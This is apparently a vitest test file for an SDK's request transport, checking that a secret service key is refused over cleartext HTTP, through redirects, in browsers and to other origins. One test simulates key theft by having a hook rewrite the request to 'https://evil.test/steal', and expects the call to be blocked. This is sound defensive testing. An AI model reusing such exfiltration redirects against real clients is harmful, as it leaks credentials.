import {
  ConfigurationError,
  createTransport,
  InsecureServiceKeyTargetError,
  MissingServiceKeyError,
  ProtocolError,
  ServiceKeyInBrowserError,
} from '@plinth/core';
import { queryRoute } from '@plinth/protocol';
import { HttpResponse, http } from 'msw';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { apiUrl, useMockServer } from '../../../test/fixtures/msw-server.js';
import { pathParamRoute, presignedRoute, publicGetRoute, serviceRoute } from '../../../test/fixtures/routes.js';

const mock = useMockServer();
const serviceKey = 'sk_test_0123456789abcdef0123456789abcdef';

afterEach(() => {
  vi.unstubAllGlobals();
});

describe('MissingServiceKeyError', () => {
  it('is thrown synchronously, names the method and the fix, and no request is made', () => {
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test' });
    let returned: unknown;
    let thrown: unknown;
    try {
      returned = transport.call(serviceRoute, {});
    } catch (error) {
      thrown = error;
    }
    expect(returned).toBeUndefined(); // no promise came back: the throw was synchronous
    expect(thrown).toBeInstanceOf(MissingServiceKeyError);
    expect(thrown).toBeInstanceOf(ConfigurationError);
    expect(thrown).toMatchObject({ code: 'missing_service_key', name: 'MissingServiceKeyError' });
    expect((thrown as Error).message).toContain('admin.listThings()');
    expect((thrown as Error).message).toContain('serviceKey');
    expect(mock.requests).toHaveLength(0);
  });

  it('names the caller the SDK method passes', () => {
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test' });
    expect(() => transport.call(pathParamRoute, { id: '1' }, { caller: "from('posts').delete()" })).toThrow(
      /^from\('posts'\)\.delete\(\) needs a service key/,
    );
    expect(mock.requests).toHaveLength(0);
  });

  it('assertCallable throws the same error without a call, and passes routes that need no key', () => {
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test' });
    expect(() => transport.assertCallable(serviceRoute, "from('posts')")).toThrow(
      /^from\('posts'\) needs a service key/,
    );
    expect(() => transport.assertCallable(serviceRoute)).toThrow(MissingServiceKeyError);
    expect(() => transport.assertCallable(publicGetRoute)).not.toThrow();
    const withKey = createTransport({ url: apiUrl, publishableKey: 'pk_test', serviceKey });
    expect(() => withKey.assertCallable(serviceRoute)).not.toThrow();
    expect(mock.requests).toHaveLength(0);
  });

  it('does not stop public routes', async () => {
    mock.use(http.get(`${apiUrl}/v1/test/ping`, () => HttpResponse.json({ pong: true })));
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test' });
    await expect(transport.call(publicGetRoute)).resolves.toEqual({ pong: true });
    expect(mock.requests).toHaveLength(1);
  });
});

describe('the service key goes only where it should', () => {
  it('is sent as a bearer token on service routes, with the publishable key', async () => {
    mock.use(http.get(`${apiUrl}/v1/test/things`, () => HttpResponse.json({ things: [] })));
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test', serviceKey });
    await transport.call(serviceRoute, {});
    expect(mock.requests[0]?.headers.get('authorization')).toBe(`Bearer ${serviceKey}`);
    expect(mock.requests[0]?.headers.get('apikey')).toBe('pk_test');
  });

  it('is not sent on public routes, which do not need it', async () => {
    mock.use(http.get(`${apiUrl}/v1/test/ping`, () => HttpResponse.json({ pong: true })));
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test', serviceKey });
    await transport.call(publicGetRoute);
    expect(mock.requests[0]?.headers.get('authorization')).toBeNull();
  });

  it('is not sent, nor the publishable key, to a presigned URL', async () => {
    const signed = 'https://bucket.storage.test/upload/abc?signature=xyz';
    mock.use(http.put('https://bucket.storage.test/upload/abc', () => new HttpResponse(null, { status: 204 })));
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test', serviceKey });
    await transport.call(presignedRoute, { content: 'hi' }, { presignedUrl: signed });
    expect(mock.requests[0]?.url).toBe(signed);
    expect(mock.requests[0]?.headers.get('authorization')).toBeNull();
    expect(mock.requests[0]?.headers.get('apikey')).toBeNull();
  });

  it('a presigned route without its signed URL is refused, not sent to the API', async () => {
    const transport = createTransport({ url: apiUrl, publishableKey: 'pk_test', serviceKey });
    await expect(transport.call(presignedRoute, { content: 'hi' })).rejects.toThrow(/needs the presigned URL/);
    expect(mock.requests).toHaveLength(0);
  });

  it('is refused to another origin when a hook rewrites the URL, and nothing is sent', async () => {
    const transport = createTransport({
      url: apiUrl,
      serviceKey,
      hooks: { beforeRequest: [(request) => new Request('https://evil.test/steal', request)] },
    });
    const error = await transport.call(serviceRoute, {}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InsecureServiceKeyTargetError);
    expect(error).toMatchObject({ code: 'insecure_service_key_target' });
    expect((error as Error).message).toContain('https://evil.test');
    expect(mock.requests).toHaveLength(0);
  });

  it('is refused over cleartext http to a non-loopback host, at creation', () => {
    expect(() => createTransport({ url: 'http://api.example.com', serviceKey })).toThrow(InsecureServiceKeyTargetError);
    expect(() => createTransport({ url: 'http://10.0.0.5:8080', serviceKey })).toThrow(/cleartext HTTP/);
    expect(mock.requests).toHaveLength(0);
  });

  it('is refused when a hook downgrades the request to http', async () => {
    const transport = createTransport({
      url: 'https://api.plinth.test',
      serviceKey,
      hooks: { beforeRequest: [(request) => new Request(request.url.replace('https:', 'http:'), request)] },
    });
    await expect(transport.call(serviceRoute, {})).rejects.toBeInstanceOf(InsecureServiceKeyTargetError);
    expect(mock.requests).toHaveLength(0);
  });

  it('may use http to loopback hosts (local development)', async () => {
    for (const url of [
      'http://localhost:8787',
      'http://127.0.0.1:8787',
      'http://[::1]:8787',
      'http://app.localhost:1',
    ]) {
      expect(createTransport({ url, serviceKey }).hasServiceKey).toBe(true);
    }
    mock.use(http.get('http://127.0.0.1:8787/v1/test/things', () => HttpResponse.json({ things: ['a'] })));
    await expect(createTransport({ url: 'http://127.0.0.1:8787', serviceKey }).call(serviceRoute, {})).resolves.toEqual(
      {
        things: ['a'],
      },
    );
  });

  it('does not follow redirects on service-key requests', async () => {
    mock.use(
      http.get(
        `${apiUrl}/v1/test/things`,
        () => new HttpResponse(null, { status: 307, headers: { location: 'https://elsewhere.test/v1/test/things' } }),
      ),
    );
    const transport = createTransport({ url: apiUrl, serviceKey });
    const error = await transport.call(serviceRoute, {}).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'invalid_response', status: 307 });
    expect(mock.requests.map((r) => new URL(r.url).host)).toEqual(['api.plinth.test']);
  });

  it('does not follow a redirect of a service-key POST either, and reports it with its status and location', async () => {
    mock.use(
      http.post(
        `${apiUrl}/v1/query`,
        () => new HttpResponse(null, { status: 307, headers: { location: 'https://elsewhere.test/v1/query' } }),
      ),
    );
    const transport = createTransport({ url: apiUrl, serviceKey, retry: false });
    const error = await transport.call(queryRoute, { table: 'posts', op: 'select' }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ProtocolError);
    expect(error).toMatchObject({ code: 'invalid_response', status: 307 });
    expect((error as Error).message).toContain('https://elsewhere.test/v1/query');
    // msw replaced the global fetch after the SDK loaded, so this went through fetch, in mode
    // `manual`: once, to the configured server, never to the redirect's target.
    expect(mock.requests.map((r) => [new URL(r.url).host, r.redirect])).toEqual([['api.plinth.test', 'manual']]);
  });

  it('sends a service-key POST with redirect mode manual where a hook or a custom fetch sees the request', async () => {
    mock.use(http.post(`${apiUrl}/v1/query`, () => HttpResponse.json({ rows: [], rowCount: 0 })));
    const modes: RequestRedirect[] = [];
    const hooked = createTransport({
      url: apiUrl,
      serviceKey,
      hooks: { beforeRequest: [(request) => void modes.push(request.redirect)] },
    });
    await hooked.call(queryRoute, { table: 'posts', op: 'select' });
    const custom = createTransport({
      url: apiUrl,
      serviceKey,
      fetch: (input, init) => {
        modes.push(init?.redirect ?? 'follow');
        return fetch(input, init);
      },
    });
    await custom.call(queryRoute, { table: 'posts', op: 'select' });
    expect(modes).toEqual(['manual', 'manual']);
    expect(mock.requests.map((r) => r.redirect)).toEqual(['manual', 'manual']);
  });

  it('catches a key put in the wrong slot', () => {
    expect(() => createTransport({ url: apiUrl, publishableKey: serviceKey })).toThrow(/holds a secret key/);
    expect(() => createTransport({ url: apiUrl, publishableKey: 'ak_live_x_y' })).toThrow(ConfigurationError);
    expect(() => createTransport({ url: apiUrl, serviceKey: 'pk_test' })).toThrow(/holds a publishable key/);
  });

  it('rejects a url that is not absolute http(s)', () => {
    expect(() => createTransport({ url: 'api.example.com' })).toThrow(ConfigurationError);
    expect(() => createTransport({ url: 'ftp://api.example.com' })).toThrow(/https:\/\//);
  });
});

describe('ServiceKeyInBrowserError', () => {
  it('is thrown in a simulated browser page', () => {
    vi.stubGlobal('window', {});
    vi.stubGlobal('document', {});
    expect(() => createTransport({ url: apiUrl, serviceKey })).toThrow(ServiceKeyInBrowserError);
    expect(() => createTransport({ url: apiUrl, serviceKey })).toThrow(/dangerouslyAllowBrowser/);
  });

  it('is thrown in a simulated web worker', () => {
    vi.stubGlobal('WorkerGlobalScope', function WorkerGlobalScope() {});
    expect(() => createTransport({ url: apiUrl, serviceKey })).toThrow(ServiceKeyInBrowserError);
  });

  it('is not thrown in a browser without a service key', () => {
    vi.stubGlobal('window', {});
    vi.stubGlobal('document', {});
    expect(createTransport({ url: apiUrl, publishableKey: 'pk_test' }).hasServiceKey).toBe(false);
  });

  it('can be opted out of with dangerouslyAllowBrowser, and then the key is used', async () => {
    vi.stubGlobal('window', {});
    vi.stubGlobal('document', {});
    const transport = createTransport({ url: apiUrl, serviceKey, dangerouslyAllowBrowser: true });
    mock.use(http.get(`${apiUrl}/v1/test/things`, () => HttpResponse.json({ things: [] })));
    await transport.call(serviceRoute, {});
    expect(mock.requests[0]?.headers.get('authorization')).toBe(`Bearer ${serviceKey}`);
  });

  it('is not thrown in plain Node', () => {
    expect(createTransport({ url: apiUrl, serviceKey }).hasServiceKey).toBe(true);
  });
});
